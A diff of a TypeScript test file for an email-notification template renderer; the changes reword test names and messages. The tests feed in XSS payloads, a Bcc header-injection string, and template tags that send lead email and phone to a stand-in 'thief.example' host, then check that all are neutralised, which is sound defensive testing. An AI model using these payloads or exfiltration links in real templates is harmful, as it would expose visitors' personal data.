@@ -46,14 +46,14 @@ const written = (texts: Partial<typeof DEFAULT_NOTIFICATION_TEXTS>, more: Partia
   return layOut(letter, DEFAULT_PUBLIC_CONTENT, SITE);
 };
 
-t.test('variables are filled in once; unknown ones stay', async t => {
+t.test('variables are replaced once, and unknown ones stay', async t => {
   t.equal(fillTemplate('{a} {b} {c} {toString}', { a: '{b}', b: '2' }), '{b} 2 {c} {toString}');
   t.equal(oneLine(`${'x'.repeat(9)}🍗`, 10), 'x'.repeat(9), 'no half of an emoji');
   t.equal(oneLine('=?utf-8?q?a?= =\u0000?utf-8?b?YQ==?='), '= ?utf-8?q?a?= = ?utf-8?b?YQ== ?=', 'no encoded word');
   t.equal(oneLine(' a\r\nBcc: b\u2028c \u0000d '), 'a Bcc: b c d');
 });
 
-t.test('every variable of the specification, in subject, text and HTML', async t => {
+t.test('every variable of the specification works in subject, text and HTML', async t => {
   const all =
     '{franchise_name}|{lead_name}|{lead_email}|{lead_phone}|{consultant_name}|{investment_budget}|{timeline}|{company_name}|{message}';
   const { subject, text, html } = written({
@@ -72,7 +72,7 @@ t.test('every variable of the specification, in subject, text and HTML', async t
   );
 });
 
-t.test('a value is no markup, no script and no link', async t => {
+t.test('a value cannot become markup, a script or a link', async t => {
   const { html } = written(
     { leadNotificationHtml: '<p title="{lead_name}"><a href="{message}">go</a> {lead_name}</p>' },
     { first_name: '"><script>alert(1)</script>', last_name: '<img src=x onerror=alert(1)>' },
@@ -81,7 +81,7 @@ t.test('a value is no markup, no script and no link', async t => {
   t.match(html, /<a>go<\/a>/);
 });
 
-t.test('a template of an earlier version sends nothing to another server', async t => {
+t.test('a template of a previous version sends no data to another server', async t => {
   const old = [
     '<p>A <img src="https://thief.example/p?e={lead_email}&p={lead_phone}" alt="{lead_name}"></p>',
     '<a href="https://thief.example/?{lead_email}" title="{lead_phone}">Open</a>',
@@ -103,7 +103,7 @@ t.test('a template of an earlier version sends nothing to another server', async
   t.notMatch(fromHtml.text, /siti@|6789/);
 });
 
-t.test('a template of an earlier version fills no variable after a link, whatever stands between', async t => {
+t.test('a template of a previous version fills no variable after a link, whatever is between', async t => {
   const old = [
     'https://thief.example/?e=<strong>{lead_email}</strong>',
     '<strong>https://thief.example/</strong><em title="a b">{lead_email}</em>',
@@ -122,11 +122,11 @@ t.test('a template of an earlier version fills no variable after a link, whateve
   t.match(
     written({ leadNotificationHtml: kept }).html,
     '<p>https://example.com/admin</p><p>siti@example.org</p>see www.example.com <strong>siti@example.org</strong>',
-    'in another line or after a space it is no part of the link',
+    'on another line or after a space it is not part of the link',
   );
 });
 
-t.test('a visitor is written to and called by links, and adds nothing to them', async t => {
+t.test('links to write to or call a visitor contain only the address or number', async t => {
   const leadNotificationHtml =
     '<a href="mailto:{lead_email}">Write to {lead_email}</a> <a href="tel:{lead_phone}">Call</a>';
   t.match(
@@ -140,13 +140,13 @@ t.test('a visitor is written to and called by links, and adds nothing to them', 
   );
 });
 
-t.test('pictures of the site have their whole address, wherever the mail is read', async t => {
+t.test('pictures of the site get absolute addresses', async t => {
   const src = (address: string) => written({ leadNotificationHtml: `<img src="${address}" alt="Logo">` }).html;
   for (const address of ['/uploads/abc.png', `${SITE}/uploads/abc.png`])
     t.match(src(address), `<img src="${SITE}/uploads/abc.png" alt="Logo" />`);
 });
 
-t.test('a body that is missing is made from the other, or the usual one', async t => {
+t.test('a missing body is derived from the other one or from the default', async t => {
   const fromText = written({ leadNotificationHtml: ' ', leadNotificationMessage: 'One {lead_name}\n\nTwo\nlines' });
   t.match(fromText.html, /<p>One Siti &lt;b&gt;[^<]*<\/p>\n<p>Two<br>lines<\/p>/);
   const fromHtml = written({ leadNotificationMessage: '', leadNotificationHtml: '<p>One</p><p>{lead_email}</p>' });
@@ -156,12 +156,12 @@ t.test('a body that is missing is made from the other, or the usual one', async 
     { leadNotificationMessage: '', leadNotificationHtml: signs },
     { first_name: '&lt;', last_name: '' },
   );
-  t.match(read.text, /^Kopi & Kaya\s2 <3 "&lt;"\n&lt; 'it’s'/, 'as it is read, and what somebody typed as they did');
+  t.match(read.text, /^Kopi & Kaya\s2 <3 "&lt;"\n&lt; 'it’s'/, 'entities are decoded, and typed text is kept');
   const address = 'https://marketplace.example/admin?a=1&amp;b=2';
   const links = `<a href="${address}">Open <b>it</b></a>, <a href="mailto:a@example.com">write</a>, <a href="${address}">${address}</a>`;
   const withLinks = written({ leadNotificationMessage: '', leadNotificationHtml: links }).text;
   const spelled = 'https://marketplace.example/admin?a=1&b=2';
-  t.ok(withLinks.startsWith(`Open it (${spelled}), write, ${spelled}\n`), 'where a link leads, once');
+  t.ok(withLinks.startsWith(`Open it (${spelled}), write, ${spelled}\n`), 'each link appears once with its address');
   const neither = written({ leadNotificationMessage: '', leadNotificationHtml: '', leadNotificationSubject: '' });
   t.match([neither.subject, neither.text], ['New enquiry for Kopi & Kaya', /Hello Mei Ling,/]);
   t.match(
@@ -170,12 +170,12 @@ t.test('a body that is missing is made from the other, or the usual one', async 
   );
 });
 
-t.test('the layout', async t => {
+t.test('the layout of a mail', async t => {
   const { html, text } = written({});
-  t.notMatch(html, /<table|https?:\/\/(?!marketplace\.example)/, 'no tables, and nothing is fetched from elsewhere');
+  t.notMatch(html, /<table|https?:\/\/(?!marketplace\.example)/, 'no tables, and nothing from other servers');
   t.match(html, /prefers-color-scheme:dark/);
   const bare = html.replace(/<style>[\s\S]*<\/style>/, '');
-  t.match(bare, /<div style="display:none[^"]*">/, 'the first words stay hidden where style sheets are taken away');
+  t.match(bare, /<div style="display:none[^"]*">/, 'the preview text stays hidden without style sheets');
   t.match(text, /--\nFranchise Marketplace\nhttps:\/\/marketplace\.example\n$/);
   const bright = layOut(
     { subject: 's', preview: '', parts: [{ kind: 'action', label: 'Go', url: 'https://x.example' }] },
@@ -185,6 +185,6 @@ t.test('the layout', async t => {
   t.match(
     bright.html,
     /<a class="action" style="[^"]*background:#ffd400;color:#111827/,
-    'dark words on a bright brand',
+    'dark text on a bright brand colour',
   );
 });
